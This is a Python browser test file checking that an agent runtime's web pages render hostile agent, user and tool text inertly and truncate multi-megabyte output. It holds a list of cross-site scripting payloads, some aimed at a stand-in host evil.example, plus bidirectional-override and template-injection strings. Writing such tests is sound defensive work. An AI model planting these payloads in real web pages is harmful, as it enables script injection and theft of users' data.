"""Everything that agents, users and tools have said is hostile: it is shown as text, stays in its box, and runs nowhere."""

import sys

import httpx
import pytest
from tests.server.pages.scene import Shop, add_talk
from tests.server.service import wait_until

from troth.runtime import Runtime, bind

pytestmark = pytest.mark.xdist_group("browser")

TEXTS = {
    "a script": "<script>window.hacked = 1</script>",
    "an image": '<img src="x" onerror="window.hacked = 2">',
    "out of an attribute": '"\' onmouseover=window.hacked=3 autofocus onfocus=window.hacked=4 x="',
    "out of a title": "</title></textarea></style></pre><svg onload=window.hacked=5>",
    "for htmx": '<div hx-get="https://evil.example/" hx-trigger="load"></div><hx-partial hx-target="body">x</hx-partial>',
    "a link": "javascript:window.hacked=6 https://evil.example/?steal",
    "a form": '<form action="https://evil.example"><button formaction="https://evil.example">Go on</button></form>',
    "bidirectional marks": "abc \u202e evil \u2066 gpj.exe \u200f \u061c",
    "control characters": "a\x1b[31m\x07\x08\x7f\x9b b",
    "one very long word": "x" * 5000,
    "very many lines": "line\n" * 3000,
    "combining marks": "Z" + "\u0310\u0352\u0301" * 300,
    "a lone surrogate as text": "\\ud800 {{7*7}} ${7*7} %s %00",
}


@pytest.fixture(scope="module")
def hostile(shop):
    """A run for each text, in its inputs, its outputs and its message; a talk, and a question in a search."""
    return {name: shop.run("hostile", text=text) for name, text in TEXTS.items()}


def test_nothing_runs_and_nothing_leaves_its_box(shop, hostile, tab):
    """Run pages and lists with hostile text in every place."""
    view = tab(viewport={"width": 360, "height": 640})
    talk = add_talk(shop, TEXTS["an image"] + TEXTS["a script"] + TEXTS["for htmx"])
    paths = [f"runs/{run}" for run in hostile.values()]
    for path in [
        *paths,
        "",
        "runs",
        "runs?text=%3Cscript%3E",
        f"conversations/{talk}",
        "search?text=%3Cimg%20onerror%3E",
    ]:
        page = view.open(path)
        assert page.evaluate("window.hacked") is None, path
        wide = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
        assert wide == 0, f"{path} is {wide} px too wide"
        strange = "#content :is(script, img, iframe, object, embed, style, [onerror], [onload], [onfocus], [hx-get])"
        assert page.locator(strange).count() == 0, path
        assert page.locator('#content a[href^="http"], #content a[href^="javascript"]').count() == 0, path
    assert not [address for address in view.requests if not address.startswith(shop.url)]


def test_marks_that_turn_text_around_are_written_out(shop, hostile):
    """A reader sees that they are there, and they turn nothing around."""
    with httpx.Client(base_url=shop.url, trust_env=False, timeout=120) as client:
        text = client.get(f"/runs/{hostile['bidirectional marks']}").text
        assert "\u202e" not in text
        assert "\\u202e" in text
        text = client.get(f"/runs/{hostile['control characters']}").text
        assert "\x1b" not in text
        assert "\\x1b" in text


def test_megabytes_are_cut_and_said_to_be(shop):
    """A line of ten megabytes does not make a page of ten megabytes."""
    run = shop.run("hostile", text="y" * 9_000_000)
    with httpx.Client(base_url=shop.url, trust_env=False, timeout=120) as client:
        page = client.get(f"/runs/{run}")
        assert len(page.text) < 300_000
        assert "(9,000,012 characters)" in page.text
        assert len(client.get("/").text) < 300_000


def test_strange_ids_and_words_in_addresses_are_answered_with_words(shop):
    """Whatever stands in an address, a page says what is wrong with it."""
    with httpx.Client(base_url=shop.url, trust_env=False, timeout=120) as client:
        for path, status in (
            ("/runs/%3Cscript%3E", 404),
            ("/runs/a%2Fb", 404),
            ("/runs?state=nonsense", 400),
            ("/runs?before=nonsense", 400),
            ("/runs?since=nonsense", 400),
            ("/runs?since=2026", 400),
            ("/runs?failed_since=nonsense", 400),
            (f"/runs?failed_since={'9' * 400}", 400),
            (f"/runs?text={'x' * 500}", 400),
            ("/runs/x?after=-1", 404),
            ("/sessions/none", 404),
            ("/promises/none", 404),
            ("/jobs/none", 404),
            ("/conversations/none", 404),
            ("/nothing", 404),
            ("/live?on=nonsense", 400),
        ):
            page = client.get(path)
            assert page.status_code == status, (path, page.status_code)
            assert 'role="alert"' in page.text, path
            assert "<script>" not in page.text, path


EVIL = f"{TEXTS['a script']}{TEXTS['an image']}{TEXTS['out of a title']}{TEXTS['bidirectional marks']}"


def test_nothing_runs_on_the_pages_of_sessions_talks_jobs_and_promises(tmp_path, tab):
    """Long names of agents, reasons, actions, arguments, notes, commands, what tools answer and what a job prints."""
    shop = Shop(tmp_path)
    try:
        session = shop.post("/sessions")["id"]
        agent = "mover" * 50
        shop.post(f"/sessions/{session}/members", agent=agent, score=0.9, actions=["lift"])
        shop.post(f"/sessions/{session}/activate")
        shop.post(f"/sessions/{session}/execute", agent=agent, action="lift", inputs={"weight": EVIL})
        shop.post(f"/sessions/{session}/members/{agent}/kill", reason=EVIL)
        talk = add_talk(shop, EVIL, agent="desk")
        asked = shop.run("asks", until="waiting", order=EVIL)
        shop.post(f"/runs/{asked}/approve", by=f"Ada {EVIL}"[:200], note=EVIL)
        shop.wait_for(asked)
        with Runtime(tmp_path / "shop.db", in_process=False) as runtime, bind(f"talk {EVIL}"[:100], None):
            job = "strange-job"
            runtime.jobs.start([sys.executable, "-c", "import sys; print(sys.argv[1])", EVIL], job_id=job)
            wait_until(lambda: runtime.jobs.get(job).is_over, "the end of the job")
        view = tab(url=shop.url, viewport={"width": 360, "height": 640})
        for path in (
            f"sessions/{session}",
            f"conversations/{talk}",
            f"runs/{asked}",
            f"jobs/{job}",
            f"promises/{job}",
            *("", "sessions", "promises", "conversations"),
        ):
            page = view.open(path)
            page.locator("h1").wait_for()
            assert page.locator(".panel.failed[role=alert]").count() == 0, page.locator("#content").inner_text()[:300]
            assert page.evaluate("window.hacked") is None, path
            wide = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
            assert wide == 0, f"{path} is {wide} px too wide"
            strange = "#content :is(script, img, iframe, object, embed, style, form form, [onerror], [onload])"
            assert page.locator(strange).count() == 0, path
            assert "\u202e" not in page.content(), path
    finally:
        shop.close()


def test_a_tool_that_answers_megabytes(tmp_path, tab):
    """What was said is cut on the page, and says how long it is; the page answers and can be scrolled."""
    shop = Shop(tmp_path)
    try:
        talk = add_talk(shop, "w" * 900_000)
        view = tab(url=shop.url, viewport={"width": 360, "height": 640})
        page = view.open(f"conversations/{talk}")
        page.get_by_text("(900,000 characters)").first.wait_for()
        assert len(page.content()) < 300_000
        for letters in (480, 1200):  # about what a phone shows of one message; more is scrolled, by keyboard, too
            view.open(f"conversations/{add_talk(shop, 'w' * letters)}")
            assert view.axe() == [], letters
    finally:
        shop.close()


def test_a_line_of_ten_megabytes(tmp_path, tab):
    """In a step's output, an error, what an agent says and what a job prints: the page answers, is cut, and fits."""
    letters = 10_000_000
    shop = Shop(tmp_path)
    try:
        run = shop.run("megabytes", letters=letters)
        talk = add_talk(shop, f"say letters {letters}")
        with Runtime(tmp_path / "shop.db", in_process=False) as runtime, bind("talk", None):
            printing = f"print('z' * {letters})"
            runtime.jobs.start([sys.executable, "-c", printing], job_id="long-job")
            wait_until(lambda: runtime.jobs.get("long-job").is_over, "the end of the job")
        view = tab(url=shop.url, viewport={"width": 360, "height": 640})
        for path, words in (
            (f"runs/{run}", "failed"),
            (f"conversations/{talk}", "(10,000,000 characters)"),
            ("jobs/long-job", "10,000,001 bytes"),
            ("promises/long-job", "Job"),
            ("", "Now"),
            ("runs", "Runs"),
            ("search?text=wwww", "message"),
            ("search?text=yyyy", "run"),
        ):
            page = view.open(path)
            page.locator("#content", has_text=words).wait_for()
            assert len(page.content()) < 300_000, path
            wide = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
            assert wide == 0, f"{path} is {wide} px too wide"
    finally:
        shop.close()
